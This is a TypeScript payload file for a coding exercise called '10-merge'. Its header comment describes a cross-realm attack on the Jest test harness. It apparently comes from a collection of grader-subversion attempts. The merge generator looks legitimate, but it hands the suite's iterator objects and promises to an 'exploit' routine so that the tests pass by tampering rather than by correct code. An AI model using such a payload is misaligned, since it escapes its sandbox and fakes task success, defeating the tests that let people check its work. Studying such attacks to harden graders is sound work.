// exercise: 10-merge
// Attack: the sources the suite passes to merge are the suite's objects: their
// [Symbol.asyncIterator] and next methods, and the promises next() returns, are of the suite's
// realm. Their constructors may evaluate in the realm that holds jest-circus.
// Success: the tests of 10 after the first call of merge pass.
// @payload
let done = false;
const look = (...things: unknown[]) => { for (const t of things) if (t && !done && exploit(t)) done = true; };
export async function* merge<T>(...sources: AsyncIterable<T>[]): AsyncGenerator<T, void> {
  for (const source of sources) {
    const it: any = (source as any)[Symbol.asyncIterator]();
    look((source as any)[Symbol.asyncIterator], it, it?.next);
    for (;;) {
      const step = it.next();
      look(step);
      const r = await step;
      if (r.done) break;
      yield r.value;
    }
  }
}
